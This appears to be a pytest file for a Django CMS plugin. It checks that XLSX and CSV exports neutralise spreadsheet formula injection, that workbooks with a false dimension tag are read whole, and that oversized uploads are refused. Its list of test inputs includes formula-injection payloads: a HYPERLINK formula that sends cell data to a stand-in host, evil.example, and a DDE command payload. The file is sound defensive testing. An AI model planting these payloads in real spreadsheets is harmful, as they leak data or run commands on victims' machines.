"""Excel safety through the core helper (cms.services.spreadsheets), seen from the deputies plugin.

* formula injection: text that begins like a formula comes out of every export
  (the plugin's XLSX export, the admin's XLSX and CSV list exports) as text;
* a workbook whose ``<dimension>`` under-reports its size is read whole, not
  truncated with a success report;
* an upload over the web cap is refused with a clear message before any row
  is read.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from cms.services import spreadsheets
from plugins.deputies import models as m
from plugins.deputies.importer import COLUMNS, import_workbook
from tests.plugins.deputies.test_import import row

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_the_helper_writes_formula_like_text_as_text():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    spreadsheets.append(sheet, [*INJECTIONS, "普通文字", 12, None])
    normal = Workbook()
    spreadsheets.append(normal.active, INJECTIONS)
    for data in (spreadsheets.workbook_bytes(book), spreadsheets.workbook_bytes(normal)):
        xml = _sheet_xml(data)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        loaded = load_workbook(io.BytesIO(data))
        values = [c.value for c in next(loaded.worksheets[0].iter_rows())][: len(INJECTIONS)]
        # openpyxl's plain XML reader reads CR as LF; with lxml installed (python-docx brings it)
        # the CR stays: either way the text is the text written
        assert [v.replace("\r", "\n") for v in values] == [
            t.replace("\r", "\n") for t in INJECTIONS
        ]
        cells = next(loaded.worksheets[0].iter_rows())
        assert all(c.data_type == "s" for c in cells[: len(INJECTIONS)])
        assert all(c.quotePrefix for c in cells[: len(INJECTIONS)])
    assert spreadsheets.csv_value("=1+1") == "'=1+1"
    assert spreadsheets.csv_value("普通") == "普通" and spreadsheets.csv_value(3) == 3


def _sheet_xml(data: bytes, name: str = "") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
        return "".join(archive.read(n).decode() for n in names if name in n)


@pytest.fixture
def injected(register):
    people = list(m.Person.objects.filter(memberships__congress__site_id=register.congresses["340123"].site_id).distinct()[: len(INJECTIONS)])  # fmt: skip
    for person, text in zip(people, INJECTIONS, strict=False):
        m.Person.objects.filter(pk=person.pk).update(occupation=text, title=text)
    return [text for _, text in zip(people, INJECTIONS, strict=False)]


def test_the_deputies_xlsx_export_carries_no_formula(client, injected, make_user):
    client.force_login(make_user("root", superuser=True))
    response = client.get("/admin/deputies/export/xlsx/?site=340123")
    assert response.status_code == 200
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(io.BytesIO(response.content))
    column = list(book["代表"][1]).index(
        next(c for c in book["代表"][1] if c.value == "工作单位及职务")
    )
    exported = {r[column].value: r[column] for r in book["代表"].iter_rows(min_row=2)}
    for text in injected:
        cell = exported[text.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix


def test_the_admin_list_exports_write_text_as_text(client, injected, make_user):
    client.force_login(make_user("root", superuser=True))
    response = client.get("/admin/deputies/person/?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    xml = _sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    response = client.get("/admin/deputies/person/?export=csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [value for line in csv.reader(io.StringIO(body)) for value in line]
    for text in injected:
        if "工作单位及职务" in body.splitlines()[0] or "职称" in body.splitlines()[0]:
            assert "'" + text in cells
    assert not any(re.match(r"^[=+\-@]", value) for value in cells)


def _register_with_lying_dimension(rows_written: int, claimed: str) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "代表"
    sheet.append(COLUMNS)
    for n in range(rows_written):
        values = row(900 + n, 姓名=f"测试{n}")
        sheet.append([values[c] for c in COLUMNS])
    data = spreadsheets.workbook_bytes(book)
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content, count = re.subn(rb'<dimension ref="[^"]+"', f'<dimension ref="{claimed}"'.encode(), content)  # fmt: skip
                assert count == 1
            target.writestr(item, content)
    return out.getvalue()


def test_a_workbook_whose_dimension_under_reports_is_read_whole(register):
    from openpyxl.utils import get_column_letter

    # Every column, but only the header and one row: what some tools leave behind.
    data = _register_with_lying_dimension(5, claimed=f"A1:{get_column_letter(len(COLUMNS))}2")
    book = load_workbook(io.BytesIO(data), read_only=True)
    assert book["代表"].max_row == 2  # what the file claims: one data row
    report = import_workbook(io.BytesIO(data))
    assert report.ok, report.errors
    assert report.rows == 5 and report.created == 5
    assert m.Person.objects.filter(name__startswith="测试").count() == 5


def test_an_upload_over_the_web_cap_is_refused_with_a_clear_message(
    client, register, make_user, settings, django_capture_on_commit_callbacks
):
    client.force_login(make_user("root", superuser=True))
    big = SimpleUploadedFile("register.xlsx", b"\0" * (11 * 1024 * 1024))  # the reported 11 MB
    response = client.post("/admin/deputies/import/", {"file": big})
    assert response.status_code == 200
    (message,) = response.context["form"].errors["file"]
    assert message.startswith("文件过大(11.0 MB):网页上传的上限为 2.0 MB")
    settings.LIANXI_SPREADSHEET_MAX_UPLOAD_BYTES = 20 * 1024 * 1024
    # Under the raised cap, the 11 MB file is taken, imported in the background
    # (cms.services.jobs), and its report says what is wrong with it.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/admin/deputies/import/",
            {"file": SimpleUploadedFile("register.xlsx", b"\0" * (11 * 1024 * 1024))},
        )
    assert response.status_code == 302
    assert "文件不是有效的 Excel 工作簿" in client.get(response["Location"]).content.decode()
